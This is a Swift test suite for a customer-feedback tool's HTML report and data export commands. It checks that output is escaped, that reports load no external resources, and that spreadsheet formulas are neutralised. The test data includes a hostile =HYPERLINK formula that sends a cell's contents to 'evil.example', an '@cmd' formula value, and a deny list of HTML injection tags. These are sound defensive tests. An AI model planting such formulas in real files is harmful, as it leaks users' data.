import Foundation
import Testing
import VocTestSupport

/// `voc report --html` and `voc export`: self-contained, escaped, formula-safe output of the same store.
@Suite struct ReportExportCommandTests {
    /// A store with the hostile comments and the Northwind sample, and how many records it accepted.
    static func store() throws -> (path: String, accepted: Int) {
        let store = VocProcess.temporaryStore()
        let ingest = try VocProcess.run(["ingest", "--format", "ndjson", "corpora/hostile/comments_en.csv", "corpora/surveys/generic_en.csv"], store: store)
        let summary = try #require(ingest.stdout.split(separator: "\n").last.flatMap { try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] })
        return (store, try #require(summary["accepted"] as? Int))
    }

    @Test func theReportIsOneFileThatFetchesNothingAndEscapesEverything() throws {
        let (store, _) = try Self.store()
        let path = Fixtures.temporaryDirectory().appendingPathComponent("report.html").path
        let result = try VocProcess.run(["report", "--html", path, "--as-of", "2024-03-20"], store: store)
        #expect(result.status == 0, "\(result.stderr)")
        let html = try String(contentsOfFile: path, encoding: .utf8)
        #expect(html.contains("<svg") && html.contains("All accounts"))
        #expect(html.contains("data-account=\"HX-7007\"") && html.contains("data-account=\"NW-1001\""))
        // One section per account of the list, which links to it: its measures, drivers and detractor comments.
        let listed = html.components(separatedBy: "<tr class=\"account\" data-account=\"").dropFirst().map { String($0.prefix { $0 != "\"" }) }
        let sections = html.components(separatedBy: "<section class=\"account\" id=\"").dropFirst()
        #expect(Set(listed).count == sections.count && sections.count >= 2)
        for section in sections {
            let anchor = String(section.prefix { $0 != "\"" })
            #expect(html.contains("<a href=\"#\(anchor)\">"), "the list links to \(anchor)")
            #expect(section.contains("<h3>Health measures</h3>") && section.contains("<h3>Latest detractor comments</h3>"), "\(anchor)")
        }
        #expect(html.contains("id=\"account-NW-1001\"><h2>NW-1001"))
        #expect(html.contains("Hexagon &lt;b&gt;Labs&lt;/b&gt;"))
        #expect(html.contains("Content-Security-Policy"))
        for forbidden in ["<script", "<img", "<link", "src=\"http", "href=\"http", "url(", "@import", "<svg onload"] {
            #expect(!html.contains(forbidden), "\(forbidden) in a self-contained report")
        }
    }

    @Test func recordsExportNeutralizesFormulasAndCountsEveryRecord() throws {
        let (store, accepted) = try Self.store()
        let csv = try VocProcess.run(["export", "records"], store: store)
        #expect(csv.status == 0)
        #expect(csv.stdout.hasPrefix("key,channel,source,response_id,account,"))
        #expect(csv.stdout.contains(",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\") we will cancel our subscription\""))
        #expect(csv.stdout.contains(",\"'+SUM(1,2) @cmd -2+3 the app crashes every day\""))
        #expect(!csv.stdout.contains(",=HYPERLINK") && !csv.stdout.contains(",+SUM"))

        let ndjson = try VocProcess.run(["export", "records", "--format", "ndjson"], store: store)
        let lines = ndjson.stdout.split(separator: "\n")
        #expect(lines.count == accepted, "every accepted record is exported once")
        #expect(Set(lines.compactMap { (try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any])?["key"] as? String }).count == accepted)

        let json = try VocProcess.run(["export", "records", "--format", "json"], store: store)
        #expect((try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [Any])?.count == accepted)

        let excel = try VocProcess.run(["export", "records", "--excel"], store: store)
        #expect(excel.stdout.hasPrefix("\u{FEFF}key;channel;source;"))
    }

    @Test func accountsAndAlertsExportWhatTheStoreHolds() throws {
        let (store, _) = try Self.store()
        let accounts = try VocProcess.run(["export", "accounts", "--format", "ndjson", "--as-of", "2024-03-20"], store: store)
        let rows = accounts.stdout.split(separator: "\n").compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
        #expect(rows.map { $0["account"] as? String }.contains("HX-7007"))
        #expect(rows.allSatisfy { $0["score"] is Double && $0["band"] is String })

        #expect(try VocProcess.run(["export", "alerts", "--format", "json"], store: store).stdout == "[]\n", "no alert emitted yet")
        let alerts = try VocProcess.run(["alerts", "--as-of", "2024-03-20"], store: store)
        #expect(alerts.status == 1)
        let emitted = alerts.stdout.split(separator: "\n").count
        let exported = try VocProcess.run(["export", "alerts", "--format", "csv"], store: store)
        #expect(exported.stdout.hasPrefix("id,kind,account,account_name,owner,reason,occurred_at,record_key,source,nps,comment\r\n"))
        #expect(exported.stdout.split(separator: "\r\n").count == emitted + 1)
    }
}
